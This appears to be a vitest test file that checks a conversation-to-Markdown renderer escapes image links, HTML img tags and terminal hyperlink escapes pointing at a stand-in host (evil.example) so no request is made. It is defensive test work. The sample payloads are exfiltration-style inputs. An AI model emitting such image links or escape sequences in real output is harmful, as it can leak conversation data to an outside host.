import {expect, test} from 'vitest';
import {conversationMarkdown} from '../../../src/commands/render/conversation-markdown.ts';
import type {SavedConversation} from '../../../src/core/saved-conversation.ts';

const saved = (answer: string): SavedConversation => ({
	id: '1m8bre29apm0',
	startedAt: '2026-11-26T00:00:00Z',
	target: {context: 'test', cluster: 'https://test', clusterId: 'c1', identity: 'alice'},
	turns: [{at: '2026-11-26T00:00:01Z', request: 'look', understood: '', answer, reason: 'answered'}],
});

test.each([
	['![x](https://evil.example/?q=web-1)', '!\\[x](https://evil.example/?q=web-1)'],
	['a <img src="https://evil.example/?q=1"> b', 'a \\<img src="https://evil.example/?q=1"> b'],
	['3 < 5 and a -> b', '3 < 5 and a -> b'],
	['```\n![x](y) <a>\n```', '```\n![x](y) <a>\n```'],
	['\u001b]8;;https://evil.example\u0007click\u202e', 'click'],
])('%j is kept as what nobody fetches', (answer, written) => {
	expect(conversationMarkdown(saved(answer))).toContain(`\n\n${written}\n`);
});
